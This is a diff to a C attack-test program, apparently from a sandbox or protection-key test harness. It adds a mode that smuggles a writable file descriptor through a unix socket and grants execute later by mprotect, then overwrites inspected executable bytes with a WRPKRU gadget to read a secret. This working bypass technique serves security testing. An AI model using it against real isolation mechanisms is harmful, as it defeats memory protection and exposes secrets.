@@ -9,7 +9,9 @@
  *   socket:  the O_RDWR fd in flight in a unix socket (SCM_RIGHTS), in no
  *            fd table; received back after the grant;
  *   thread:  the O_RDWR fd in the fd table of a thread cloned without
- *            CLONE_FILES (/proc/TGID/fd lists the leader's table only).
+ *            CLONE_FILES (/proc/TGID/fd lists the leader's table only);
+ *   socket, execute by mprotect: as socket, the mapping made read-only
+ *            first and executable by mprotect (the other grant path).
  *
  * The new bytes are a WRPKRU gadget; with protection keys the program
  * calls it with the trusted PKRU and reads the secret. */
@@ -100,11 +102,12 @@ static int thr_main(void *arg)
 static int try_mode(const char *mode)
 {
 	static char stk[65536] __attribute__((aligned(16)));
+	static int nth;
 	char path[80];
 	volatile uint8_t *x, *alias = NULL;
-	int fd, wfd, sv[2] = { -1, -1 }, won = 0;
+	int fd, wfd, sv[2] = { -1, -1 }, won = 0, late = strstr(mode, "mprotect") != NULL;
 
-	snprintf(path, sizeof path, "/tmp/atk_hidden_writer.%s.%d", mode, (int)getpid());
+	snprintf(path, sizeof path, "/tmp/atk_hidden_writer.%d.%d", (int)getpid(), nth++);
 	if (make_file(path) != 0)
 		return -1;
 	if (!strcmp(mode, "shared")) {
@@ -114,7 +117,7 @@ static int try_mode(const char *mode)
 		close(fd);
 		if (alias == MAP_FAILED)
 			return -1;
-	} else if (!strcmp(mode, "socket")) {
+	} else if (!strncmp(mode, "socket", 6)) {
 		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
 			return -1;
 		if (pass_fd(sv[0], fd) != 0)
@@ -130,8 +133,10 @@ static int try_mode(const char *mode)
 			return -1;
 	}
 	fd = open(path, O_RDONLY);
-	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+	x = mmap(NULL, 4096, late ? PROT_READ : PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
 	close(fd);
+	if (x != MAP_FAILED && late && mprotect((void *)x, 4096, PROT_READ | PROT_EXEC) != 0)
+		x = MAP_FAILED;   /* execute granted later, by mprotect */
 	if (x == MAP_FAILED) {
 		atk_say("%s: the clean file was not granted read+execute: %s", mode, strerror(errno));
 		unlink(path);
@@ -144,7 +149,7 @@ static int try_mode(const char *mode)
 		} else {
 			atk_say("%s: mprotect(shared alias, RW): %s", mode, strerror(errno));
 		}
-	} else if (!strcmp(mode, "socket")) {
+	} else if (!strncmp(mode, "socket", 6)) {
 		if ((wfd = take_fd(sv[1])) >= 0 && pwrite(wfd, gadget, sizeof gadget, 0) == (ssize_t)sizeof gadget)
 			atk_say("%s: the fd came back out of the socket; gadget written", mode);
 		else
@@ -172,12 +177,13 @@ static int try_mode(const char *mode)
 	} else {
 		atk_say("%s: the executable bytes are the inspected ones (0x%02x ...)", mode, x[0]);
 	}
+	munmap((void *)x, 4096);   /* no seam with the next mode's mapping */
 	return won;
 }
 
 static enum atk_result atk_attack(void)
 {
-	static const char *const modes[] = { "shared", "socket", "thread" };
+	static const char *const modes[] = { "shared", "socket", "thread", "socket, execute by mprotect" };
 	int won = 0;
 	size_t i;
 
@@ -188,8 +194,10 @@ static enum atk_result atk_attack(void)
 	for (i = 0; i < sizeof modes / sizeof modes[0]; i++) {
 		int r = try_mode(modes[i]);
 
-		if (r < 0)
+		if (r < 0 && !won)
 			return ATK_ERROR;
+		if (r < 0)
+			break;
 		won |= r;
 	}
 	return won ? ATK_SUCCEEDED : ATK_REFUSED;
